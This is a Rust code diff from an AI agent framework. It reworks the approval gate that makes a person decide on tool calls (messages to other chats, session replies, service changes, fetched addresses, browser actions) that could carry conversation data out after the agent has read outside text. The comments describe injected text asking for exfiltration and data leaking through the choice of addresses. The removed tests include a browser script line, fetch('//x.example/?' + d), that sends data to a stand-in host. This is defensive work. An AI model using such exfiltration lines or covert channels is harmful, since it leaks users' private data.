@@ -1,19 +1,40 @@
 //! Calls that can carry what a conversation knows to somebody else. Once it has read text from
 //! outside, which may have asked for that, a person decides about them.
 //!
-//! | call | asks unless |
+//! | sink | asks |
 //! |---|---|
-//! | `message` | it goes to the conversation's own chat |
-//! | `web_fetch`, `browser` | the address was given to the conversation as it is: in a message of a person, a page or a list of search results. Then it has nothing that the model put into it |
+//! | chat | unless it is the conversation's own |
+//! | session | if the other conversation is to answer on its channel |
+//! | service | about changes |
+//! | address | unless the address was given to the conversation (`given.rs`), and few of its site were chosen |
+//! | browser | as an address if it names one; about each site on which it acts |
+//! | server | unless the tool is declared harmless |
 //!
-//! Mails and commands on nodes always need an approval, commands with the network unless the policy
-//! allows them.
+//! An address is judged as the value that the client's own parser makes of it. Mails and commands on
+//! nodes always need an approval, commands with the network unless the policy allows them.
 
-use holdfast_types::{Entry, Target};
+mod given;
+
+use std::collections::BTreeSet;
+
+use holdfast_egress::Guard;
+use holdfast_tools::{Destination, Registry};
+use holdfast_types::{Entry, Target, ToolCall};
+use reqwest::Url;
 use serde_json::Value;
 
-/// Tools whose results the agent cannot have written itself.
-const WEB_TOOLS: [&str; 2] = ["web_fetch", "web_search"];
+use self::given::given_addresses;
+use super::{
+    outside_text,
+    tool_flows::{Sink, sink_of},
+};
+
+/// Addresses of one site that a conversation with text from outside may choose among those that it was
+/// given. Which ones it chooses can tell something, too.
+const MAX_CHOSEN_PER_SITE: usize = 20;
+
+/// Labels below a country's domain under which names are given to owners.
+const SECOND_LEVELS: [&str; 7] = ["ac", "co", "com", "edu", "gov", "net", "org"];
 
 /// Fields of `message` that do not say where it goes.
 const CONTENT_FIELDS: [&str; 11] = [
@@ -30,24 +51,118 @@ const CONTENT_FIELDS: [&str; 11] = [
     "thread_name",
 ];
 
-/// Returns the destination of a call about which a person decides, as an "always" rule names it;
-/// `None` for other calls. `own` is the conversation's own chat.
-pub(super) fn destination(
-    tool: &str,
-    input: &Value,
-    own: Option<&Target>,
-    entries: &[Entry],
-) -> Option<String> {
-    match tool {
-        "message" => other_chat(input, own),
-        "web_fetch" | "browser" => {
-            let mut addresses = Vec::new();
-            collect_addresses(input, "", &mut addresses);
-            let unknown = addresses.into_iter().find(|url| !is_given(url, entries))?;
-            Some(format!("addresses of {}", host(unknown)))
+/// A conversation as far as the judgement of its calls needs it.
+pub(super) struct Conversation<'a> {
+    pub(super) registry: &'a Registry,
+    /// Chat that the conversation is held in.
+    pub(super) chat: Option<&'a Target>,
+    pub(super) entries: &'a [Entry],
+}
+
+impl Conversation<'_> {
+    /// Where a call sends what the model wrote, if a person decides about it; `None` for other calls,
+    /// and for those of which only the tool knows it. The input is as the tool gets it.
+    pub(super) fn destination(&self, tool: &str, input: &Value) -> Option<Destination> {
+        match sink_of(self.registry, tool) {
+            Sink::Chat => other_chat(input, self.chat).map(Destination::new),
+            Sink::Session => answers_elsewhere(input).map(Destination::new),
+            Sink::Service => changes_service(tool, input).map(Destination::new),
+            Sink::Address | Sink::Browser => self.unknown_address(tool, input),
+            Sink::Nothing
+            | Sink::OwnConversation
+            | Sink::KeepsMark
+            | Sink::Instructions
+            | Sink::OwnRules
+            | Sink::Payment
+            | Sink::Provider
+            | Sink::Server => None,
         }
-        _ => None,
     }
+
+    /// Host of the address of a call, if a person decides about the address.
+    pub(super) fn host_to_stay_on(&self, tool: &str, input: &Value) -> Option<String> {
+        self.unknown_address(tool, input)?;
+        self.address(tool, input)?.host_str().map(str::to_owned)
+    }
+
+    fn unknown_address(&self, tool: &str, input: &Value) -> Option<Destination> {
+        let url = self.address(tool, input)?;
+        let is_free = given_addresses(self.registry, self.entries).contains(&comparable(&url))
+            && self.chosen_of_site(&url) <= MAX_CHOSEN_PER_SITE;
+        let host = url.host_str().unwrap_or_default();
+        (!is_free).then(|| Destination::new(format!("addresses of {host}")))
+    }
+
+    fn address(&self, tool: &str, input: &Value) -> Option<Url> {
+        address(sink_of(self.registry, tool), input)
+    }
+
+    /// Number of addresses of a site, this one included, that the conversation has chosen since it began
+    /// anew.
+    fn chosen_of_site(&self, url: &Url) -> usize {
+        let site = site(url);
+        let called = calls(outside_text::after_reset(self.entries)).filter_map(|call| {
+            let (tool, input) = self.registry.parse_call(&call.tool, &call.input)?;
+            self.address(tool, &input)
+        });
+        let of_site = called.filter(|other| self::site(other) == site);
+        let mut chosen: BTreeSet<String> = of_site.map(|other| comparable(&other)).collect();
+        chosen.insert(comparable(url));
+        chosen.len()
+    }
+}
+
+fn calls(entries: &[Entry]) -> impl Iterator<Item = &ToolCall> {
+    entries.iter().flat_map(|entry| match entry {
+        Entry::Thought { calls, .. } => calls.as_slice(),
+        Entry::Heard { .. }
+        | Entry::Called { .. }
+        | Entry::Returned { .. }
+        | Entry::Noted { .. } => &[],
+    })
+}
+
+/// Address that a call asks, as the tool parses it; `None` if it asks none.
+fn address(sink: Sink, input: &Value) -> Option<Url> {
+    // Whatever the action is called: the tool reads more spellings of its names than one.
+    let has_address = match sink {
+        Sink::Address | Sink::Browser => true,
+        Sink::Nothing
+        | Sink::OwnConversation
+        | Sink::KeepsMark
+        | Sink::Instructions
+        | Sink::OwnRules
+        | Sink::Payment
+        | Sink::Provider
+        | Sink::Chat
+        | Sink::Session
+        | Sink::Service
+        | Sink::Server => false,
+    };
+    let text = input["url"].as_str().filter(|_| has_address)?;
+    // The tool refuses what is no address.
+    Guard::parse(text).ok()
+}
+
+/// An address as it is compared: the fragment is not sent, and a host is the same with TLS.
+fn comparable(url: &Url) -> String {
+    let mut url = url.clone();
+    url.set_fragment(None);
+    if url.scheme() == "http" && url.port().is_none() && url.set_scheme("https").is_err() {
+        return String::new();
+    }
+    url.into()
+}
+
+/// The part of a host that one owner has, roughly: `a.example.com` and `b.example.com` are one site.
+fn site(url: &Url) -> String {
+    let Some(name) = url.domain() else { return url.host_str().unwrap_or_default().to_owned() };
+    let labels: Vec<&str> = name.trim_end_matches('.').rsplit('.').collect();
+    // As in `example.co.uk`.
+    let is_second_level = labels.first().is_some_and(|top| top.len() == 2)
+        && labels.get(1).is_some_and(|second| SECOND_LEVELS.contains(second));
+    let count = if is_second_level { 3 } else { 2 };
+    labels.into_iter().take(count).collect::<Vec<_>>().join(".")
 }
 
 /// Chat of a message, unless it is `own`.
@@ -72,145 +187,19 @@ fn other_chat(input: &Value, own: Option<&Target>) -> Option<String> {
     }
 }
 
-/// Texts of an input that are addresses, or contain one.
-fn collect_addresses<'a>(input: &'a Value, field: &str, found: &mut Vec<&'a str>) {
-    match input {
-        Value::String(text) if field == "url" || text.contains("//") => found.push(text),
-        Value::Array(items) => items.iter().for_each(|one| collect_addresses(one, field, found)),
-        Value::Object(fields) => {
-            fields.iter().for_each(|(name, value)| collect_addresses(value, name, found));
-        }
-        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
-    }
+/// Conversation that is to answer a message of `sessions_send` on its own channel.
+fn answers_elsewhere(input: &Value) -> Option<String> {
+    let session = ["session", "session_key"].iter().find_map(|field| input[*field].as_str());
+    let delivers = !matches!(input["deliver"], Value::Null | Value::Bool(false));
+    delivers.then(|| format!("answers in the conversation {}", session.unwrap_or_default()))
 }
 
-/// Whether the conversation was given the address, or one that begins with it, by somebody else than
-/// the agent.
-fn is_given(url: &str, entries: &[Entry]) -> bool {
-    let address = without_scheme(url);
-    if address.is_empty() {
-        return false;
-    }
-    let calls = entries.iter().filter_map(|entry| match entry {
-        Entry::Thought { calls, .. } => Some(calls),
-        Entry::Heard { .. }
-        | Entry::Called { .. }
-        | Entry::Returned { .. }
-        | Entry::Noted { .. } => None,
-    });
-    let calls: Vec<_> = calls.flatten().collect();
-    entries.iter().any(|entry| match entry {
-        // A message of another conversation, or of a subagent's parent, is the agent's own text.
-        Entry::Heard { body, .. } => {
-            let is_of_person = body.author.is_some() || !body.outside;
-            let quoted = body.reply_to.as_ref().map_or("", |replied| &replied.text);
-            is_of_person && (body.text.contains(address) || quoted.contains(address))
-        }
-        // A search engine may repeat the query.
-        Entry::Returned { call, output, .. } => {
-            let made = calls.iter().rev().find(|made| made.id == *call);
-            output.contains(address)
-                && made.is_some_and(|made| {
-                    WEB_TOOLS.contains(&made.tool.as_str()) && !made.input.contains(address)
-                })
-        }
-        Entry::Thought { .. } | Entry::Called { .. } | Entry::Noted { .. } => false,
-    })
-}
-
-fn without_scheme(url: &str) -> &str {
-    let url = url.trim();
-    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
-    rest.split('#').next().unwrap_or_default().trim_end_matches('/')
-}
-
-fn host(url: &str) -> &str {
-    without_scheme(url).split(['/', '?']).next().unwrap_or_default()
+/// Connection that a call changes.
+fn changes_service(tool: &str, input: &Value) -> Option<String> {
+    let reads = matches!(input["action"].as_str(), Some("list" | "search" | "read"));
+    let connection = input["connection"].as_str().unwrap_or("the only connection");
+    (!reads).then(|| format!("changes by {tool} in {connection}"))
 }
 
 #[cfg(test)]
-mod tests {
-    use holdfast_types::{AccountId, Author, Body, ToolCall, Usage};
-    use serde_json::json;
-
-    use super::*;
-
-    fn made(tool: &str, input: &str, output: &str) -> [Entry; 2] {
-        let call = ToolCall { id: tool.into(), tool: tool.into(), input: input.into() };
-        let thought = Entry::Thought {
-            text: "https://thought.example/".into(),
-            calls: vec![call],
-            usage: Usage::default(),
-            model: String::new(),
-            carry: None,
-            record: None,
-        };
-        [thought, Entry::returned(tool, output, false)]
-    }
-
-    #[test]
-    fn an_address_is_free_only_if_somebody_else_gave_it() {
-        let heard = |body: Body| Entry::Heard { seq: 1, body };
-        let outside = |text: &str| Body { outside: true, ..Body::text(text) };
-        let mut entries = vec![
-            heard(Body::text("see https://said.example/a?b=c#d")),
-            heard(outside("https://told.example/")),
-            heard(Body { author: Some(Author::default()), ..outside("https://sent.example/") }),
-        ];
-        entries.extend(made("web_fetch", "{}", "[next](https://page.example/2)"));
-        entries.extend(made("web_search", "https://echo.example/", "https://echo.example/"));
-        entries.extend(made("exec", "{}", "https://exec.example/"));
-        for (url, is_free) in [
-            ("https://said.example/a?b=c#d", true),
-            ("said.example/a", true),
-            ("https://said.example/a?b=c&secret=1", false),
-            ("https://secret.said.example/", false),
-            ("https://page.example/2", true),
-            ("https://page.example/3", false),
-            ("https://sent.example", true),
-            ("https://told.example/", false),
-            ("https://echo.example/", false),
-            ("https://exec.example/", false),
-            ("https://thought.example/", false),
-            ("", false),
-        ] {
-            for (tool, input) in [
-                ("web_fetch", json!({ "url": url })),
-                ("browser", json!({ "action": "navigate", "url": url })),
-            ] {
-                let asked = destination(tool, &input, None, &entries);
-                assert_eq!(asked.is_none(), is_free, "{tool} {url}: {asked:?}");
-            }
-        }
-        let script = json!({ "action": "evaluate", "expression": "fetch('//x.example/?' + d)" });
-        assert!(destination("browser", &script, None, &entries).is_some());
-        let click = json!({ "action": "click", "ref": "e1" });
-        assert_eq!(destination("browser", &click, None, &entries), None);
-    }
-
-    #[test]
-    fn a_message_is_free_only_in_its_own_chat() {
-        let own = Target {
-            channel: "telegram".into(),
-            account: AccountId::generate(),
-            chat: "7".into(),
-            thread: None,
-            reply_to: None,
-        };
-        let to =
-            |chat: &str| json!({ "text": "a", "target": {"channel": "telegram", "chat": chat} });
-        for (input, asked) in [
-            (json!({ "text": "a", "attachments": ["x"], "target": null }), None),
-            (to("7"), None),
-            (to("8"), Some("messages to telegram:8")),
-            (json!({ "text": "a", "channel": "8" }), Some("messages to another chat")),
-        ] {
-            assert_eq!(
-                destination("message", &input, Some(&own), &[]).as_deref(),
-                asked,
-                "{input}"
-            );
-        }
-        assert!(destination("message", &to("7"), None, &[]).is_some());
-    }
-}
+mod tests;
